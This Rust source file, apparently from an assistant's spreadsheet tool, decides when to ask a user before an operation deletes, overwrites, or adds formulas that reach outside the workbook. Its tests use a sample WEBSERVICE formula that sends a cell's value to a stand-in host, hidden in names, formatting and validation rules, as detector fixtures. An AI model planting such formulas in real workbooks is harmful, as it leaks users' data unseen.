//! Operations without a look of their own: what they would change is worked out on the file and compared with what is there.

use deskhand_core::tool::{Ask, AskReason};
use deskhand_formula::risk;
use deskhand_protocol::operations::answer::{Difference, WorkbookContent};
use deskhand_protocol::operations::{Effect, Operation};
use deskhand_protocol::permission::{BeforeAfter, RiskNote};
use serde_json::Value;

use crate::preview::{MAX_RISKS, MAX_ROWS, OUTSIDE_RULE, named, short};

/// The question before an operation whose differences are known. Nobody is asked about what only adds.
pub(super) fn ask_change(
    operation: &Operation,
    differences: &[Difference],
    workbook: &WorkbookContent,
) -> Option<Ask> {
    let definition = operation.definition();
    let risks = risks(operation, differences, workbook);
    // Where something was there before, or is gone, it may be somebody's work; results of formulas follow by themselves.
    let lost: Vec<&Difference> = differences
        .iter()
        .filter(|difference| loses(difference))
        .collect();
    let reason = match (definition.effect, risks.is_empty()) {
        (_, false) => AskReason::ReachesOutside,
        (Effect::Remove, true) => AskReason::Removes,
        (Effect::Change, true) if !lost.is_empty() => AskReason::Overwrites,
        _ => return None,
    };
    let target = operation.target();
    let place = if target.is_empty() {
        "the document"
    } else {
        &target
    };
    let rows = lost.iter().take(MAX_ROWS).map(|difference| BeforeAfter {
        cell: difference
            .location
            .rsplit('!')
            .next()
            .unwrap_or_default()
            .to_owned(),
        label: None,
        now: short(
            difference
                .before
                .clone()
                .unwrap_or_else(|| difference.sentence.clone()),
        ),
        formula: difference
            .after
            .as_deref()
            .is_some_and(|after| after.starts_with('=')),
        after: short(difference.after.clone().unwrap_or_default()),
    });
    Some(Ask {
        reason,
        question: format!("{} {place}: go on?", definition.doing),
        scope: definition.summary.to_owned(),
        rows: rows.collect(),
        total: lost.len().max(1) as u32,
        risks,
    })
}

fn loses(difference: &Difference) -> bool {
    let follows = [
        "cell.result",
        "cell.look",
        "cell.numberFormat",
        "sheet.view",
        "sheet.columns",
        "rows.inserted",
        "columns.inserted",
    ];
    let kind = difference.code.rsplit('.').next().unwrap_or_default();
    let adds = kind == "added" || difference.code == "cell.filled";
    !adds && !follows.contains(&difference.code.as_str()) && !difference.code.starts_with("part.")
}

/// Formulas that the operation brings and that reach outside, by themselves or through names.
fn risks(operation: &Operation, differences: &[Difference], workbook: &WorkbookContent) -> Vec<RiskNote> {
    let mut found: Vec<(String, String)> = differences
        .iter()
        .filter_map(|difference| Some((difference.location.clone(), difference.after.clone()?)))
        .filter(|(_, after)| after.starts_with('='))
        .collect();
    let mut given = Vec::new();
    formulas(&serde_json::to_value(operation).unwrap_or_default(), &mut given);
    found.extend(given.into_iter().map(|formula| (operation.target(), formula)));
    let names = named(workbook);
    let reaching = found.iter().filter_map(|(place, formula)| {
        let reason = risk::outside_reach_with(formula, &names)?;
        Some(RiskNote {
            cells: place.clone(),
            reach: reason.to_string(),
            rule: OUTSIDE_RULE.to_owned(),
        })
    });
    reaching.take(MAX_RISKS).collect()
}

/// Texts of an operation that stand for formulas: those that begin so, and what a name refers to.
fn formulas(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(text) if text.starts_with('=') => found.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| formulas(item, found)),
        Value::Object(fields) => {
            for (name, field) in fields {
                match field {
                    Value::String(text) if name == "refersTo" => found.push(text.clone()),
                    field => formulas(field, found),
                }
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use deskhand_protocol::operations::WorkbookOperation;
    use deskhand_protocol::operations::answer::DefinedName;
    use serde_json::json;

    use super::*;

    fn operation(value: Value) -> Operation {
        Operation::Workbook(serde_json::from_value::<WorkbookOperation>(value).expect("an operation"))
    }

    fn difference(code: &str, before: Option<&str>, after: Option<&str>) -> Difference {
        Difference {
            code: code.to_owned(),
            location: "Data!B2".to_owned(),
            before: before.map(str::to_owned),
            after: after.map(str::to_owned),
            sentence: "Data!B2 changed.".to_owned(),
        }
    }

    #[test]
    fn what_removes_is_always_asked_about_and_what_only_adds_never() {
        let empty = WorkbookContent::default();
        let delete = operation(json!({ "op": "rows.delete", "range": "Data!5:7" }));
        let asked = ask_change(&delete, &[], &empty).expect("a question");
        assert_eq!(
            (asked.reason, asked.question.as_str()),
            (AskReason::Removes, "Deleting rows Data!5:7: go on?")
        );
        let fill = operation(json!({ "op": "range.fill", "from": "Data!A1", "to": "Data!A1:A9" }));
        assert_eq!(
            ask_change(&fill, &[difference("cell.filled", None, Some("=A1*2"))], &empty),
            None
        );
        let over =
            ask_change(&fill, &[difference("cell.value", Some("1"), Some("2"))], &empty).expect("a question");
        assert_eq!((over.reason, over.total), (AskReason::Overwrites, 1));
    }

    #[test]
    fn formulas_that_reach_outside_are_found_wherever_an_operation_holds_them() {
        let web = "=WEBSERVICE(\"https://x.example/?\"&A1)";
        let name = operation(json!({ "op": "name.set", "name": "Rate", "refersTo": web }));
        let rule = operation(
            json!({ "op": "conditionalFormat.set", "range": "Data!A1", "rules": [
            { "condition": { "when": "formula", "formula": web } } ] }),
        );
        let allowed = operation(json!({ "op": "dataValidation.set", "range": "Data!A1",
            "allowed": { "allow": "formula", "formula": web } }));
        for bringing in [name, rule, allowed] {
            let asked = ask_change(&bringing, &[], &WorkbookContent::default()).expect("a question");
            assert_eq!(
                (asked.reason, asked.risks.len()),
                (AskReason::ReachesOutside, 1),
                "{bringing:?}"
            );
        }
        // A copied formula may reach outside through a name.
        let workbook = WorkbookContent {
            names: vec![DefinedName {
                name: "Rate".to_owned(),
                refers_to: web.to_owned(),
                hidden: true,
            }],
            ..WorkbookContent::default()
        };
        let copy = operation(json!({ "op": "range.copy", "from": "Data!A1", "to": "Data!B2" }));
        let filled = [difference("cell.filled", None, Some("=Rate*2"))];
        assert_eq!(
            ask_change(&copy, &filled, &workbook)
                .expect("a question")
                .risks
                .len(),
            1
        );
    }
}
